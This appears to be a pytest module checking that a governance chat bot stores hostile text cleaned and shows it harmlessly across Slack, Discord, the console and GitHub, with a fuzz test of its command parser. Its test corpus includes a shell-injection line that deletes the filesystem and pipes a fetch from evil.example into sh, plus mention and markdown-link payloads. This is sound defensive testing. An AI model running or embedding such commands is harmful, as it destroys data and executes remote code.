"""Hostile text through every door, into the one store, and back out of every window.

Each corpus entry is used as a proposal title (on GitHub), as concern text and as a vote reason
from Slack (Bolt's real dispatcher), Discord (discord.py's real interaction parsing), the
console (``run_sync`` + ``plain_text``, what ``charterbot console`` does) and a GitHub comment,
all through the real service. Linking is set up directly in the store here; how a link is
proven is ``test_chat_identity``'s subject.

Rules proven here:
- Stored verbatim but cleaned: the read API returns exactly what was typed minus invisible and
  control characters (spelled out per entry, not computed by the code under test).
- Echoed inert: Slack blocks carry no ``<…>`` token but our own dates, and are ``verbatim``;
  Discord sends no content, ``allowed_mentions`` ``{"parse": []}``, and embeds with no live
  ``<…>`` token, ``@everyone``/``@here`` or link; the console prints no control character; the
  GitHub tracking comment shows the text escaped (no mention, HTML, link or slash command);
  the read API is JSON.
- 10 KB of text is refused on every surface with a short, inert answer; nothing is stored.
- No input to ``gov.run_sync`` raises, and every reply renders on every surface (hypothesis).
"""

from __future__ import annotations

import itertools
import json
import re
import unicodedata
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from bot.bootstrap import build
from bot.clock import FixedClock
from bot.discord.client import CharterBot
from bot.discord.render import render as render_discord
from bot.messages import Actor, plain_text
from bot.runtime import Runtime
from bot.settings import Settings
from bot.slack.blocks import render_blocks
from charter.text import escape_markdown_github
from storage.db import session_scope
from tests.bot.discord.clients import logged_in
from tests.bot.discord.wire import USER_ID, command, option
from tests.bot.harness import REPO, START, Bot, later, slack_settings, valid_body
from tests.bot.slack.wire import signed_headers, slash_body
from tests.standins.discord_server import APP_ID, DiscordStandIn
from tests.standins.github_server import GitHubStandin
from tests.standins.slack_server import SlackStandIn

# (raw as typed, as stored: invisible and control characters removed, nothing else changed)
CORPUS = [
    pytest.param(
        "@everyone @here <!channel> <!here> <!everyone>",
        "@everyone @here <!channel> <!here> <!everyone>",
        id="mass-mentions",
    ),
    pytest.param(
        "<@U123> <@&123> <@123456789012345678> <#C0001> @carmen-borealis @meridian-net/core",
        "<@U123> <@&123> <@123456789012345678> <#C0001> @carmen-borealis @meridian-net/core",
        id="mentions",
    ),
    pytest.param(
        "**bold** _it_ ~~s~~ `code` [click](https://evil.example) <https://evil.example|go> # h",
        "**bold** _it_ ~~s~~ `code` [click](https://evil.example) <https://evil.example|go> # h",
        id="markdown",
    ),
    pytest.param(
        "ze\u200bro\u200c wi\u200ddth\ufeff \u202eevil\u2066 \u00ad!",
        "zero width evil !",
        id="zero-width",
    ),
    pytest.param(
        '"; rm -rf / # $(id) `id` && curl evil.example | sh',
        '"; rm -rf / # $(id) `id` && curl evil.example | sh',
        id="shell",
    ),
    pytest.param("\x1b[2J\x1b[31mred\x07 alert\x08", "[2J[31mred alert", id="terminal"),
]
LOGINS = {"slack": "carmen-borealis", "discord": "emeka-cirrus", "console": "fatima-dorado"}
GITHUB_VOTER = "hana-eridanus"
SLACK_USER = "U0CARMEN"
_ids = itertools.count(1)


# -- fixtures -------------------------------------------------------------------------------


@pytest.fixture
async def bot(sqlite_url: str, github: GitHubStandin, slack: SlackStandIn) -> AsyncIterator[Bot]:
    b = Bot.fresh(sqlite_url, github, **slack_settings(slack))
    for surface, surface_id in (("slack", SLACK_USER), ("discord", USER_ID)):
        b.link(surface_id, LOGINS[surface], surface=surface)
    yield b
    await b.close()


@pytest.fixture
async def client(bot: Bot, discord_api: DiscordStandIn) -> AsyncIterator[CharterBot]:
    async with logged_in(bot.gov, discord_api.api_url) as c:
        yield c


# -- the four doors ---------------------------------------------------------------------------


async def from_slack(bot: Bot, slack: SlackStandIn, text: str) -> dict[str, Any]:
    """``/charter <text>`` from the linked Slack user; the JSON posted to response_url."""
    reply = f"inj{next(_ids)}"
    body = slash_body(text, slack.response_url(reply), encoded=True)
    body = re.sub(r"user_id=[^&]*", f"user_id={SLACK_USER}", body)
    response = await bot.http.post("/slack/events", content=body, headers=signed_headers(body))
    assert response.status_code == 200, response.text
    [answer] = await slack.wait_for(f"/response/{reply}")
    data: dict[str, Any] = answer.data
    return data


async def from_discord(
    client: CharterBot, api: DiscordStandIn, sub: str, options: list[dict[str, Any]]
) -> dict[str, Any]:
    """``/charter <sub>`` from the linked Discord member; the follow-up JSON."""
    token = f"inj-{next(_ids)}"
    payload = command(sub, options) | {"id": str(10**17 + next(_ids)), "token": token}
    client._connection.parse_interaction_create(payload)
    [followup] = await api.wait_for("POST", f"/webhooks/{APP_ID}/{token}")
    sent: dict[str, Any] = followup.json
    return sent


def from_console(bot: Bot, text: str) -> str:
    console = Actor(login=LOGINS["console"], surface="console", surface_id="fatima-dorado")
    return plain_text(bot.gov.run_sync(text, console))


# -- what "inert" means on each surface ---------------------------------------------------------

_SLACK_OWN_TOKEN = re.compile(r"<!date\^\d+\^[^|<>]*\|[^<>]*>")
_DISCORD_OWN_TOKEN = re.compile(r"<t:\d+:[FR]>")


def strings(value: Any) -> Iterator[str]:
    """Every string inside a JSON value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for v in value.values():
            yield from strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from strings(v)


def assert_slack_inert(data: dict[str, Any]) -> None:
    """No ``<…>`` token of the user's (no ping, link or channel); mrkdwn is verbatim."""
    for text in strings(data):
        rest = _SLACK_OWN_TOKEN.sub("", text)
        assert "<" not in rest and ">" not in rest, text
    for block in data.get("blocks", []):
        for obj in [block.get("text") or {}, *block.get("fields", [])]:
            if obj.get("type") == "mrkdwn":
                assert obj["verbatim"] is True, block


def assert_discord_inert(sent: dict[str, Any]) -> None:
    """Nothing in content, nothing parsed for mentions, no live token, ping or link in embeds."""
    assert not sent.get("content"), sent
    assert sent["allowed_mentions"] == {"parse": []}
    for text in strings(sent.get("embeds", [])):
        rest = _DISCORD_OWN_TOKEN.sub("", text)
        assert not re.search(r"(?<!\\)<", rest), text
        assert not re.search(r"@(everyone|here)", rest), text
        assert not re.search(r"(?<!\\)\[[^\]]*\]\(", rest), text  # [text](url) is a link
        assert not re.search(r"(?<!\\)\*\*", rest), text


def assert_console_inert(out: str) -> None:
    """No control character reaches the terminal (newline apart), no bidi override either."""
    bad = [ch for ch in out if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf")]
    assert not bad, repr(out)


# Pieces of the corpus that would be live on GitHub if they appeared as typed.
_GITHUB_LIVE = (
    "<!channel>",
    "<@U123>",
    "<https://evil",
    "@everyone",
    "@carmen-borealis",
    "@meridian-net/core",
    "[click](",
    "**bold**",
    "~~s~~",
    "`code`",
    "`id`",
)


def assert_github_inert(body: str, stored: str) -> None:
    """The tracking comment shows the text escaped (as the relay escapes all user text), and
    no piece of it that would ping, link, format or open HTML appears as typed."""
    assert escape_markdown_github(stored) in body
    for token in _GITHUB_LIVE:
        if token in stored:
            assert token not in body, token


# -- the tests ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("raw", "stored"), CORPUS)
async def test_hostile_text_is_stored_clean_and_echoed_inert(
    bot: Bot,
    slack: SlackStandIn,
    client: CharterBot,
    discord_api: DiscordStandIn,
    raw: str,
    stored: str,
) -> None:
    """The same hostile text as title, concern text and vote reason from Slack, Discord, the
    console and GitHub: stored verbatim-but-cleaned, and inert wherever it is shown."""
    n = await bot.open_voting(f"Gas {raw}")

    answers = [
        await from_slack(bot, slack, f"concern {n} slack: {raw}"),
        await from_slack(bot, slack, f"vote {n} approve {raw}"),
    ]
    sent = [
        await from_discord(
            client,
            discord_api,
            "concern",
            [option("number", n), option("name", "discord"), option("text", raw)],
        ),
        await from_discord(
            client,
            discord_api,
            "vote",
            [option("number", n), option("choice", "approve"), option("reason", raw)],
        ),
    ]
    printed = [from_console(bot, f"concern {n} console: {raw}")]
    printed.append(from_console(bot, f"vote {n} approve {raw}"))
    await bot.comment(n, f"/concern github: {raw}\n/vote approve {raw}", GITHUB_VOTER)
    await bot.settle()

    response = await bot.http.get(f"/api/proposals/{n}")
    assert response.headers["content-type"].startswith("application/json")
    view = response.json()
    assert view["title"] == f"Gas {stored}"
    assert {c["name"]: c["text"] for c in view["concerns"]} == {
        "slack": stored,
        "discord": stored,
        "console": stored,
        "github": stored,
    }
    assert {(v["voter"], v["via"], v["reason"]) for v in view["votes"]} == {
        (LOGINS["slack"], "slack", stored),
        (LOGINS["discord"], "discord", stored),
        (LOGINS["console"], "console", stored),
        (GITHUB_VOTER, "github", stored),
    }

    answers.append(await from_slack(bot, slack, f"show {n}"))
    answers.append(await from_slack(bot, slack, "proposals"))
    for data in answers:
        assert_slack_inert(data)
    assert "slack" in json.dumps(answers[-2]) and "console" in json.dumps(answers[-2])
    sent.append(await from_discord(client, discord_api, "show", [option("number", n)]))
    sent.append(await from_discord(client, discord_api, "proposals", []))
    for one in sent:
        assert_discord_inert(one)
    printed.append(from_console(bot, f"show {n}"))
    printed.append(from_console(bot, "proposals"))
    for out in printed:
        assert_console_inert(out)
    assert stored.split()[0] in printed[-2]

    [tracking] = bot.tracking(n)
    assert_github_inert(tracking.body, stored)
    assert "(via Slack)" in tracking.body and "(via Discord)" in tracking.body


TEN_KB = "A" * 10_240


async def test_ten_kilobytes_are_refused_everywhere(
    bot: Bot,
    slack: SlackStandIn,
    client: CharterBot,
    discord_api: DiscordStandIn,
) -> None:
    """10 KB of concern text is refused on every surface with a short answer that says the
    limit and does not echo the text back; nothing is stored."""
    n = await bot.open_voting("Gas")
    slack_answer = await from_slack(bot, slack, f"concern {n} slack: {TEN_KB}")
    discord_answer = await from_discord(
        client,
        discord_api,
        "concern",
        [option("number", n), option("name", "d"), option("text", TEN_KB)],
    )
    console_answer = from_console(bot, f"concern {n} console: {TEN_KB}")
    await bot.comment(n, f"/concern github: {TEN_KB}", GITHUB_VOTER)
    await bot.settle()
    [github_answer] = [
        c.body for c in bot.issue_comments(n) if c.body.startswith(f"@{GITHUB_VOTER}")
    ]
    for shown in (json.dumps(slack_answer), json.dumps(discord_answer), console_answer):
        assert "1000" in shown and len(shown) < 2000, shown[:300]
    assert "1000" in github_answer and len(github_answer) < 2000, github_answer[:300]
    assert_slack_inert(slack_answer)
    assert_discord_inert(discord_answer)
    assert (await bot.http.get(f"/api/proposals/{n}")).json()["concerns"] == []


# -- no input makes the service or a renderer raise ------------------------------------------

_WORDS = ["vote", "approve", "concern", "resolve", "withdraw", "show", "status", "link", "help"]
_WORDS += ["whoami", "proposals", "disclose", "ready", "advance", "rollback", "flag"]
_WORDS += ["incident", "meeting", "meetings", "agenda", "confirm", "subscribe", "unsubscribe"]
_ACTORS = [
    Actor(login=None, surface="slack", surface_id="U0ANON"),
    Actor(login="carmen-borealis", surface="discord", surface_id="1"),
    Actor(login="ines-coord", surface="console", surface_id="ines-coord"),
    Actor(login="zoe-contributor", surface="slack", surface_id="U0ZOE"),
]
_HOSTILE = st.sampled_from(["@everyone", "<!channel>", "<@U1>", "\u202e", "\x1b[2J", "$(id)"])
_PIECE = st.one_of(
    st.sampled_from(_WORDS),
    st.integers(-5, 10**12).map(str),
    st.sampled_from(["#1", "1", "#", ":", '"', "“", "--override", "here", "me", "sev1"]),
    _HOSTILE,
    st.text(max_size=30),
)
COMMAND_TEXT = st.one_of(
    st.text(max_size=200),
    st.lists(_PIECE, max_size=8).map(" ".join),
    st.builds(lambda a, b: a + " " + b, st.sampled_from(_WORDS), st.text(max_size=2000)),
)


@pytest.fixture(scope="module")
def runtime(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Runtime]:
    """A store with proposal #1 in voting, for the property test."""
    path: Path = tmp_path_factory.mktemp("fuzz") / "charterbot.db"
    clock = FixedClock(START)
    rt = build(Settings(database_url=f"sqlite:///{path}"), clock=clock)
    from bot.github.events import parse_event
    from bot.github.handler import handle_event
    from tests.bot.harness import fixture

    payload = fixture("issues/opened.payload.json")
    payload["repository"]["full_name"] = REPO
    payload["issue"].update(number=1, title="Fuzzed", body=valid_body())
    payload["issue"]["labels"] = [{"name": "upgrade-proposal", "id": 1, "color": "ededed"}]
    with session_scope(rt.engine) as session:
        handle_event(rt.gov, session, parse_event("issues", payload), START)
    clock.advance(later(days=7, seconds=1))
    rt.gov.tick()
    yield rt
    rt.engine.dispose()


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=COMMAND_TEXT, who=st.sampled_from(_ACTORS))
def test_no_input_makes_the_service_or_a_renderer_raise(
    runtime: Runtime, text: str, who: Actor
) -> None:
    """Any text from any actor gets a Message back (never an exception), and that Message
    renders for Slack, Discord and the console."""
    message = runtime.gov.run_sync(text, who)
    assert render_blocks(message).blocks is not None
    assert render_discord(message).embed is not None
    assert isinstance(plain_text(message), str)
